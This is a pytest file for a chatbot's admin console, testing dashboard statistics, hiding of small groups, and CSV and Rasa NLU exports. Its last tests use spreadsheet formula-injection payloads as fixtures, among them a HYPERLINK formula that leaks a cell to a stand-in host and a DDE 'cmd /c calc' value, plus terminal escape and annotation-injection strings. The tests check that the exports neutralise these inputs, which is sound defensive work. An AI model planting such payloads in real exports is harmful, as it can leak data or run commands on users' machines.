import csv
import io
import re
import unicodedata
from datetime import date, datetime, timezone

import yaml

from bot.admin import exports, reports
from bot.admin.reports import QueryFilter
from bot.admin.small_counts import HIDDEN, Range
from bot.admin.topics import topic_label
from bot.querylog import QueryLogRow
from bot.settings import PROJECT_ROOT
from testkit.admin_client import logged_in_console
from testkit.querylog_rows import (
    CROWD,
    SAMPLE,
    add_events,
    add_rows,
    crowd,
    open_log,
    pseudonym,
)


def test_dashboard_figures_overall_by_event_and_by_district(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, CROWD)
    add_events(sessions, "desa-pematang", "kelurahan-plg")
    with sessions() as session:
        figures = reports.dashboard(session, QueryFilter())
        pematang = reports.dashboard(session, QueryFilter(event_code="desa-pematang"))
        today = reports.dashboard(
            session, QueryFilter(start=date(2026, 11, 27), end=date(2026, 11, 27))
        )

    # Every group holds at least five people: nothing hidden, every count exact.
    assert (figures.messages, figures.users, figures.fallback_rate) == (21, 21, 0.0)
    assert not figures.ranges
    assert [(b.name, b.messages, b.users) for b in figures.per_day] == [
        ("2026-11-25", 5, 5),
        ("2026-11-26", 6, 6),
        ("2026-11-27", 10, 10),
    ]
    assert [(b.name, b.messages, b.users) for b in figures.by_event] == [
        ("desa-pematang", 10, 10),
        ("kelurahan-plg", 6, 6),
        ("(tanpa acara)", 5, 5),
    ]
    assert [(b.name, b.messages) for b in figures.by_district] == [
        ("Ogan Komering Ilir", 10),
        ("Palembang", 6),
        ("Lahat", 5),
    ]
    assert figures.top_intents == [
        ("ask_job_vacancy", 10),
        ("ask_requirements", 6),
        ("ask_procedure", 5),
    ]
    assert pematang.messages == 10 and today.messages == 10


def test_messages_relayed_to_officers_are_not_among_the_topics(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    relayed = dict(text="", intent=None, confidence=None, outcome="handed_off", responses=[])
    add_rows(
        sessions,
        CROWD
        + [
            relayed | {"user_pseudonym": pseudonym(100 + n), "message_kind": "handed_off"}
            for n in range(6)
        ]
        # An older version's relays, kind "text" (from its spool).
        + [relayed | {"user_pseudonym": pseudonym(200 + n)} for n in range(6)],
    )
    with sessions() as session:
        figures = reports.dashboard(session, QueryFilter())

    assert figures.messages == 33  # counted, as every message is
    assert [intent for intent, _ in figures.top_intents] == [
        "ask_job_vacancy",
        "ask_requirements",
        "ask_procedure",
    ]


def test_with_a_small_group_on_the_page_every_count_is_a_range(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, SAMPLE + CROWD)
    add_events(sessions, "desa-pematang", "kelurahan-plg")
    with sessions() as session:
        figures = reports.dashboard(session, QueryFilter())

    # 28 messages from 27 people, 4 unanswered: a share of 4 is not shown.
    assert (figures.messages, figures.users, figures.fallback_rate) == (Range(25), Range(25), None)
    assert figures.ranges
    assert [(b.name, b.messages, b.users) for b in figures.by_event] == [
        ("desa-pematang", Range(10), Range(10)),  # 14
        ("(tanpa acara)", Range(5), Range(5)),  # 6
        ("kelurahan-plg", Range(5), Range(5)),  # 8 from 7, 2 unanswered
    ]
    assert figures.by_event[2].fallback_rate is None
    # 3 questions from 3 people came without a district: hidden, and listed last.
    assert [(b.name, b.messages, b.users, b.fallback_rate) for b in figures.by_district] == [
        ("Ogan Komering Ilir", Range(10), Range(10), 0.0),
        ("Lahat", Range(5), Range(5), 0.0),
        ("Palembang", Range(5), Range(5), None),
        ("(tidak disebut)", HIDDEN, HIDDEN, None),
    ]
    assert figures.top_intents == [
        ("ask_job_vacancy", Range(10)),
        ("ask_procedure", Range(5)),  # Langkah resmi
        ("ask_requirements", Range(5)),  # Syarat jadi PMI
        ("ask_costs", HIDDEN),  # Biaya resmi, Salam pembuka: hidden, by name
        ("greet", HIDDEN),
    ]


def test_one_person_at_an_event_on_one_day_is_hidden_everywhere(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    one_person = dict(event_code="dusun-ulu", kabupaten="Empat Lawang", user_pseudonym=pseudonym(9))
    add_rows(sessions, [*CROWD, one_person, dict(one_person, outcome="fallback")])
    add_events(sessions, "dusun-ulu", "desa-pematang", "kelurahan-plg")
    with sessions() as session:
        figures = reports.dashboard(session, QueryFilter(event_code="dusun-ulu"))
        everyone = reports.dashboard(session, QueryFilter())

    assert (figures.messages, figures.users, figures.fallback_rate) == (HIDDEN, HIDDEN, None)
    assert [(b.name, b.messages, b.users, b.fallback_rate) for b in figures.per_day] == [
        ("2026-11-27", HIDDEN, HIDDEN, None)
    ]
    for breakdown in (figures.by_event, figures.by_district):
        assert [(b.messages, b.users, b.fallback_rate) for b in breakdown] == [
            (HIDDEN, HIDDEN, None)
        ]
    assert figures.top_intents == [("ask_requirements", HIDDEN)]
    # Without a filter the one person's event is hidden and everything else is a range.
    assert {b.name: b.messages for b in everyone.by_event} == {
        "desa-pematang": Range(10),
        "kelurahan-plg": Range(5),
        "(tanpa acara)": Range(5),
        "dusun-ulu": HIDDEN,
    }


# What `/start 081234567890` stored before the bot checked payloads against the events.
PLANTED_CODE = "081234567890"


def test_a_code_no_registered_event_has_counts_as_no_event_and_is_never_listed(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(
        sessions,
        [
            *crowd(6, first_user=500, event_code=PLANTED_CODE),
            *crowd(7, first_user=600, event_code="desa-pematang"),
        ],
    )
    add_events(sessions, "desa-pematang")
    with sessions() as session:
        choices = reports.event_choices(session)
        figures = reports.dashboard(session, QueryFilter())
        by_planted_code = reports.search_queries(session, QueryFilter(event_code=PLANTED_CODE))
        csv_text = exports.queries_csv(
            reports.search_queries(session, QueryFilter()),
            event_codes=reports.registered_codes(session),
        )

    assert choices == [("desa-pematang", "Desa Pematang (OKI)")]
    assert {b.name: b.messages for b in figures.by_event} == {
        "desa-pematang": 7,
        "(tanpa acara)": 6,
    }
    assert by_planted_code == []
    assert PLANTED_CODE not in csv_text and csv_text.count("desa-pematang") == 7


async def test_the_console_shows_no_code_that_is_no_registered_event(database_url, tmp_path):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, [*crowd(6, first_user=500, event_code=PLANTED_CODE), *CROWD])
    add_events(sessions, "desa-pematang", "kelurahan-plg")
    async with logged_in_console(database_url, sessions, tmp_path) as client:
        for path in (
            "/",
            "/queries",
            "/queries.csv",
            "/review",
            "/events",
            f"/?event={PLANTED_CODE}",
        ):
            response = await client.get(path)

            assert response.status_code == 200 and PLANTED_CODE not in response.text, path
    log.close()


def test_the_same_question_asked_three_ways_is_one_group(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, SAMPLE)
    with sessions() as session:
        groups = reports.unanswered_groups(session, QueryFilter())

    assert [g.size for g in groups] == [3, 1]
    assert groups[0].likely_intent == "ask_job_vacancy"
    assert all("jerman" in text for text in groups[0].texts)


def test_labelled_queries_export_as_rasa_nlu_yaml(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, SAMPLE)
    with sessions() as session:
        group = reports.unanswered_groups(session, QueryFilter())[0]
    with sessions.begin() as session:
        assert (
            reports.label_queries(
                session=session, query_ids=group.query_ids, intent="ask_job_vacancy"
            )
            == 3
        )
    with sessions.begin() as session:  # relabelling replaces, it does not duplicate
        reports.label_queries(
            session=session, query_ids=group.query_ids[:1], intent="ask_procedure"
        )
    with sessions() as session:
        examples = reports.labelled_examples(session)
        remaining = [
            g for g in reports.unanswered_groups(session, QueryFilter()) if g.label is None
        ]

    exported = yaml.safe_load(exports.nlu_yaml(examples, remaining))
    by_intent = {block["intent"]: block["examples"] for block in exported["nlu"]}
    assert exported["version"] == "3.1"
    assert by_intent["ask_job_vacancy"].count("- ") == 2
    assert by_intent["ask_procedure"].count("- ") == 1
    assert "# [1x" in exports.nlu_yaml(examples, remaining)


def test_csv_export_has_the_scrubbed_text_and_no_pseudonym(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, SAMPLE)
    with sessions() as session:
        rows = reports.search_queries(session, QueryFilter(search="hubungi"))
    text = exports.queries_csv(rows, event_codes=set())

    assert len(rows) == 1
    assert "<PHONE>" in text
    assert rows[0].user_pseudonym not in text
    assert text.splitlines()[0].startswith("id,created_at,event_code")
    header, row = csv.reader(text.splitlines())
    assert header.index("topik") + 1 == header.index("intent")  # the words beside the name
    assert (row[header.index("topik")], row[header.index("intent")]) == (
        "Salam pembuka",
        "greet",
    )


def test_every_intent_has_a_topic_in_plain_indonesian():
    domain = yaml.safe_load((PROJECT_ROOT / "domain.yml").read_text(encoding="utf-8"))
    intents = [*domain["intents"], "nlu_fallback"]
    labels = [topic_label(intent) for intent in intents]

    unlabelled = [i for i, label in zip(intents, labels, strict=True) if label == i or "_" in label]
    assert unlabelled == []
    assert len(set(labels)) == len(labels)  # one topic, one name: the selects stay unambiguous
    assert topic_label("ask_requirements") == "Syarat jadi PMI"
    assert (topic_label("dont_know"), topic_label("ask_term")) == ("Tidak tahu", "Arti istilah")
    assert topic_label(None) == "(tidak dikenali)"


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+62 812 <PHONE>",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(database_url):
    log = open_log(database_url)
    sessions = log.sessions
    add_rows(sessions, [dict(text=text, kabupaten="=cmd|'/c calc'!A1") for text in FORMULAS])
    with sessions() as session:
        rows = reports.search_queries(session, QueryFilter())

    header, *lines = csv.reader(
        io.StringIO(exports.queries_csv(rows, event_codes=set()), newline="")
    )
    texts = [line[header.index("text")] for line in lines]
    assert sorted(texts) == sorted(f"'{text}" for text in FORMULAS)
    assert {line[header.index("kabupaten")] for line in lines} == {"'=cmd|'/c calc'!A1"}
    assert [line[header.index("confidence")] for line in lines] == ["0.950"] * len(FORMULAS)


def test_csv_cells_lose_control_characters_but_keep_line_breaks():
    row = QueryLogRow(
        id=1,
        created_at=datetime(2026, 11, 27, tzinfo=timezone.utc),
        message_kind="text",
        text="\x1b]0;judul\x07tolong\nbantu\x1b[31m",
        responses=[],
        outcome="answered",
        latency_ms=5,
    )

    header, line = csv.reader(
        io.StringIO(exports.queries_csv([row], event_codes=set()), newline="")
    )
    assert line[header.index("text")] == "]0;judultolong\nbantu[31m"


# Rasa 3.6's own pattern for an entity annotation in a training example
# (rasa/shared/nlu/training_data/entities_parser.py, ENTITY_REGEX), and the two plain forms.
RASA_ENTITY_REGEX = re.compile(
    r"\[(?P<entity_text>[^\]]+?)\](\((?P<entity>[^:)]+?)(?:\:(?P<value>[^)]+))?\)"
    r"|\{(?P<entity_dict>[^}]+?)\}|\[(?P<list_entity_dicts>.*?)\])"
)
ANNOTATIONS = [RASA_ENTITY_REGEX, re.compile(r"\[[^\]]+\]\([^)]+\)"), re.compile(r"\[[^\]]+\]\{")]


def test_the_nlu_export_has_no_control_characters_and_no_entity_annotations():
    texts = [
        "saya dari [Lahat](kabupaten) mau kerja",
        'kantor di [OKI]{"entity": "kabupaten", "value": "Palembang"}',
        'agen [Budi][{"entity": "nama"}] minta uang',
        "tolong\x07 bantu\x1b[31m saya",
        "kerja\u202e di\u200b luar negeri",
    ]
    group = reports.QuestionGroup("[Muara Enim](kabupaten)\x1b ada kantor?", [1], [], None)

    text = exports.nlu_yaml({"ask_local_office": texts}, [group])

    examples = yaml.safe_load(text)["nlu"][0]["examples"]
    assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cf") and c != "\n"]
    assert not [p.pattern for p in ANNOTATIONS if p.search(text)]
    assert "- saya dari (Lahat)(kabupaten) mau kerja\n" in examples  # the words all stay
    assert "- tolong bantu(31m saya\n" in examples
    assert "- kerja di luar negeri\n" in examples
    assert "# [1x, the model guessed -] (Muara Enim)(kabupaten) ada kantor?" in text
